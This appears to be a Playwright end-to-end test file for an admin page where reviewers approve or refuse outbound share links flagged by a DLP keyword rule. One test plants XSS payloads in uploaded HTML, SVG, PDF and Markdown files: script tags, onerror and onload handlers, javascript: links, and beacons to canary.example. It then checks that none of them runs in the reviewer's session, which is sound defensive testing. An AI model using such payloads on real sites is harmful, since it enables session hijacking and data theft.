@@ -1,0 +1,234 @@
+/** Reviewers decide what goes outside: what they see, what they cannot decide, and that nothing of it runs in their session. */
+import type { Page } from '@playwright/test';
+import { calls } from '../packages/contract/src/index.ts';
+import { links, reviewOf, statusOf } from '../apps/server/src/outbound/outbound.test-support.ts';
+import type { MadeLink } from '../apps/server/src/outbound/outbound.test-support.ts';
+import type { Company, Person } from '../apps/server/src/testing/index.ts';
+import { administrator, noFault, officer } from './admin.ts';
+import { enter, expect, test } from './company.ts';
+import { inBothLooks, openWalk, walks } from './looks.ts';
+import { pdfOf } from './pdfs.ts';
+
+/** Rules are the whole company's: a word that nothing else contains keeps the other tests out of the queue. */
+const word = '磐石计划';
+async function watched(company: Company): Promise<void> {
+  const admin = await administrator(company);
+  const { rules } = await admin.call(calls.adminDlp.page, {});
+  if (!rules.some(({ name }) => name === word))
+    await admin.call(calls.adminDlp.create, { name: word, kind: 'keyword', value: word, action: 'review' });
+}
+
+interface Asked {
+  by: Person;
+  made: MadeLink;
+  instanceId: string;
+}
+
+/** A folder with these files, whose link waits for a review. */
+async function asks(company: Company, reviewer: Person, name: string, files: Record<string, string | Buffer<ArrayBuffer>>): Promise<Asked> {
+  await watched(company);
+  const by = await company.person();
+  const { instanceId } = await by.folder(name);
+  for (const [fileName, content] of Object.entries(files)) await by.uploads(content, fileName, instanceId);
+  const made = await links(company, by, instanceId, { note: '发给媒体', permissions: ['preview', 'download'], visitLimit: 200 });
+  await reviewOf(reviewer, { instanceId });
+  return { by, made, instanceId };
+}
+
+const rowOf = (page: Page, name: string) => page.getByRole('navigation', { name: /审核列表|Reviews/ }).getByRole('button', { name });
+const address = ({ origin }: Person, name: string): string => `${origin}/disk/admin/reviews?keyword=${encodeURIComponent(name)}`;
+
+for (const walk of walks)
+  test(`a reviewer sees what would go outside, refuses with a reason, and approves (${walk.locale})`, async ({
+    browser,
+    company,
+    person,
+  }) => {
+    await officer(company, person, 'links.review');
+    const zh = walk.locale === 'zh-CN';
+    const stem = `媒体 ${walk.locale} ${Date.now()}`;
+    const first = await asks(company, person, `${stem} 一`, { '普通.txt': '可以公开', '通稿.txt': `关于${word}的通稿` });
+    const second = await asks(company, person, `${stem} 二`, { '名单.txt': `${word}名单` });
+    const page = await openWalk(browser, person, walk);
+    const phone = page.viewportSize()!.width < 760;
+    await page.goto(address(person, stem));
+    await expect(rowOf(page, `${stem} 二`)).toBeVisible();
+    await inBothLooks(page, walk, 'reviews', noFault(page));
+    await rowOf(page, `${stem} 一`).click();
+    // What the rules found comes first, and it can be read.
+    const content = page.getByRole('region', { name: zh ? '本次外发的文件' : 'Files that would go outside' });
+    await expect(content).toContainText(`关于${word}的通稿`);
+    await page.getByRole('button', { name: '普通.txt', exact: true }).click();
+    await expect(content).toContainText('可以公开');
+    await page.getByRole('button', { name: zh ? '定位到「通稿.txt」' : 'Show “通稿.txt”' }).click();
+    await expect(content).toContainText(`关于${word}的通稿`);
+    for (const fact of zh
+      ? ['2 个文件', '预览、下载、带水印', '最多 200 次', '发给媒体']
+      : ['2 files', 'Preview, Download, watermarked', 'up to 200 visits', '发给媒体'])
+      await expect(page.getByText(fact).first()).toBeVisible();
+    await inBothLooks(page, walk, 'review', noFault(page));
+
+    await page.getByRole('button', { name: zh ? '拒绝' : 'Refuse', exact: true }).click();
+    const reason = page.getByRole('textbox', { name: zh ? '理由' : 'Reason' });
+    await expect(reason).toBeFocused();
+    await expect(reason).toHaveAttribute('aria-invalid', 'true');
+    expect((await statusOf(first.by, first.made)).state).toBe('verifying');
+    await reason.fill('含未公开的客户');
+    await page.getByRole('button', { name: zh ? '拒绝' : 'Refuse', exact: true }).click();
+    await expect(page.getByText(zh ? `已拒绝「${stem} 一」` : `Refused “${stem} 一”`)).toBeVisible();
+    expect(await statusOf(first.by, first.made)).toMatchObject({ state: 'failed', reasonText: '含未公开的客户' });
+
+    // The next in the line is open.
+    await expect(content).toContainText(`${word}名单`);
+    await expect(reason).toHaveValue('');
+    await page.getByRole('button', { name: zh ? '通过' : 'Approve', exact: true }).click({ delay: 700 });
+    await expect(page.getByText(zh ? `已通过「${stem} 二」` : `Approved “${stem} 二”`)).toBeVisible();
+    expect((await statusOf(second.by, second.made)).state).toBe('valid');
+    await page.getByRole('button', { name: zh ? '清除筛选' : 'Clear filters' }).waitFor();
+
+    await page.getByText(zh ? '已处理' : 'Decided', { exact: true }).click();
+    await expect(rowOf(page, `${stem} 一`)).toContainText(zh ? '已拒绝' : 'Refused');
+    await rowOf(page, `${stem} 一`).click();
+    await expect(page.getByText('含未公开的客户')).toBeVisible();
+    await expect(content).toContainText(zh ? '内容不再显示' : 'The content is no longer shown');
+    await expect(page.getByRole('button', { name: zh ? '通过' : 'Approve', exact: true })).toHaveCount(0);
+    await inBothLooks(page, walk, 'review-decided', noFault(page));
+    if (phone) await page.getByRole('button', { name: zh ? '审核列表' : 'All reviews' }).click();
+    await expect(rowOf(page, `${stem} 二`)).toBeVisible();
+    await page.context().close();
+  });
+
+test('one’s own link is shown and cannot be decided, whatever key is pressed', async ({ company, person, signedIn: page }) => {
+  await officer(company, person, 'links.review');
+  await watched(company);
+  const name = `自己的 ${Date.now()}`;
+  const { instanceId } = await person.folder(name);
+  await person.uploads(word, 'a.txt', instanceId);
+  const made = await links(company, person, instanceId);
+  await reviewOf(person, { instanceId });
+  await page.goto(address(person, name));
+  await expect(page.getByText('这是你提交的外链')).toBeVisible();
+  await expect(rowOf(page, name)).toContainText('你提交的');
+  await expect(page.getByRole('button', { name: '通过' })).toHaveCount(0);
+  await page.waitForTimeout(700);
+  for (const key of ['a', 'r']) await page.keyboard.press(key);
+  await expect(page.getByRole('textbox', { name: '理由' })).toHaveCount(0);
+  expect((await statusOf(person, made)).state).toBe('verifying');
+});
+
+test('what another reviewer decided, or what changed meanwhile, is said, and the buttons go', async ({
+  browser,
+  company,
+  person,
+  signedIn: page,
+}) => {
+  await officer(company, person, 'links.review');
+  const other = await company.person();
+  await officer(company, other, 'links.review');
+  const stem = `两个人 ${Date.now()}`;
+  await asks(company, person, `${stem} 一`, { 'a.txt': word });
+  const changed = await asks(company, person, `${stem} 二`, { 'b.txt': `${word}，第一版` });
+  await page.goto(address(person, stem));
+  await expect(page.getByRole('button', { name: '通过', exact: true })).toBeVisible();
+  const context = await browser.newContext({ locale: 'zh-CN' });
+  await enter(context, other);
+  const second = await context.newPage();
+  await second.goto(address(person, stem));
+  await expect(second.getByRole('button', { name: '通过', exact: true })).toBeVisible();
+  await second.getByRole('textbox', { name: '理由' }).fill('先不发');
+  await second.getByRole('button', { name: '拒绝', exact: true }).click({ delay: 700 });
+  // Not a click was made here: the one who decided is named, and the row has left the line.
+  await expect(page.getByText(/已拒绝$/)).toBeVisible();
+  await expect(page.getByText('先不发')).toBeVisible();
+  await expect(page.getByRole('button', { name: '通过', exact: true })).toHaveCount(0);
+  await expect(rowOf(page, `${stem} 一`)).toHaveCount(0);
+
+  await rowOf(page, `${stem} 二`).click();
+  await expect(page.getByText(`${word}，第一版`)).toBeVisible();
+  // A browser that hears nothing is told by the answer.
+  await page.route('**/disk/api/events', (route) => route.abort());
+  await changed.by.uploads(`${word}，第二版`, 'b.txt', changed.instanceId as never, 'version');
+  await page.getByRole('button', { name: '通过', exact: true }).click({ delay: 700 });
+  expect((await statusOf(changed.by, changed.made)).state).toBe('verifying');
+  await expect(page.getByText('审核已终止')).toBeVisible();
+  await expect(page.getByText(`${word}，第一版`)).toHaveCount(0);
+  await expect(rowOf(page, `${stem} 二`)).toBeVisible();
+  await rowOf(page, `${stem} 二`).click();
+  await expect(page.getByText(`${word}，第二版`)).toBeVisible();
+  await context.close();
+});
+
+test('a double click, and a key that is held, decide one review and not the next', async ({ company, person, signedIn: page }) => {
+  await officer(company, person, 'links.review');
+  const stem = `连点 ${Date.now()}`;
+  const asked = [];
+  for (const n of ['一', '二', '三']) asked.push(await asks(company, person, `${stem} ${n}`, { 'a.txt': `${word}${n}` }));
+  await page.goto(address(person, stem));
+  await expect(page.getByText(`${word}一`)).toBeVisible();
+  await page.waitForTimeout(700);
+  await page.getByRole('button', { name: '通过', exact: true }).dblclick({ delay: 150 });
+  await expect(page.getByText(`${word}二`)).toBeVisible();
+  await page.waitForTimeout(700);
+  await page.keyboard.down('a');
+  for (let n = 0; n < 20; n += 1) {
+    await page.keyboard.down('a');
+    await page.waitForTimeout(80);
+  }
+  await page.keyboard.up('a');
+  await expect(page.getByText(`${word}三`)).toBeVisible();
+  const states = await Promise.all(asked.map(async ({ by, made }) => (await statusOf(by, made)).state));
+  expect(states).toEqual(['valid', 'valid', 'verifying']);
+});
+
+test('nothing in what is reviewed runs in the reviewer’s session, or calls home', async ({ company, person, signedIn: page }) => {
+  await officer(company, person, 'links.review');
+  const name = `金丝雀 ${Date.now()}`;
+  const canary = (from: string): string =>
+    `top.document.title='owned';localStorage.setItem('owned','${from}');new Image().src='https://canary.example/${from}'`;
+  await asks(company, person, name, {
+    'a.html': `<title>${word}</title><script>${canary('script')}</script><img src=x onerror="${canary('onerror')}"><iframe srcdoc="<script>${canary('frame')}</script>"></iframe><link rel="stylesheet" href="https://canary.example/css"><p>第一页</p>`,
+    'b.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60" onload="${canary('onload')}"><script>${canary('svg')}</script><rect width="90" height="60" fill="#0b6e6e"/><image href="https://canary.example/svg.png"/></svg>`,
+    'c.pdf': pdfOf(['canary'], { links: ["javascript:top.document.title='owned'"], script: "app.alert\\('owned'\\)" }),
+    'd.md': `# ${word}\n\n<script>${canary('markdown')}</script><img src=x onerror="${canary('md')}"> ![x](https://canary.example/md.png) [外](javascript:top.document.title='owned')`,
+  });
+  const outside: string[] = [];
+  page.on('request', (request) => void (request.url().includes('canary.example') && outside.push(request.url())));
+  page.on('dialog', () => outside.push('dialog'));
+  const downloads: string[] = [];
+  page.on('download', (download) => downloads.push(download.suggestedFilename()));
+  await page.goto(address(person, name));
+  const content = page.getByRole('region', { name: '本次外发的文件' });
+  const open = (file: string) => content.getByRole('button', { name: new RegExp(`^${file}`) }).click();
+  await open('a.html');
+  await expect(content.frameLocator('iframe').getByText('第一页')).toBeVisible();
+  await open('b.svg');
+  await expect(content.locator('img[data-ready]')).toBeVisible();
+  await open('c.pdf');
+  await expect(content.locator('canvas').first()).toBeVisible();
+  await open('d.md');
+  await expect(content.getByRole('heading', { name: word })).toBeVisible();
+  await page.waitForTimeout(500);
+  expect(outside).toEqual([]);
+  expect(downloads).toEqual([]);
+  expect(await page.title()).not.toContain('owned');
+  expect(await page.evaluate(() => localStorage.getItem('owned'))).toBe(null);
+});
+
+test('who may not review gets no entry and no page; the entry counts what waits, as it comes', async ({
+  company,
+  person,
+  signedIn: page,
+}) => {
+  await officer(company, person, 'people.view');
+  await page.goto('/disk/admin/reviews');
+  await expect(page.getByRole('heading', { name: /没有权限|无权/ })).toBeVisible();
+  await expect(page.getByRole('link', { name: '外发审核' })).toHaveCount(0);
+  await officer(company, person, 'links.review');
+  await page.goto('/disk/admin/reviews');
+  const entry = page.getByRole('link', { name: /外发审核/ });
+  await expect(entry).toBeVisible();
+  await expect(page.getByText(/^待审核/)).toBeVisible();
+  const before = Number((await entry.innerText()).replace(/\D/g, ''));
+  await asks(company, person, `刚来的 ${Date.now()}`, { 'a.txt': word });
+  await expect(entry).toContainText(String(before + 1));
+});
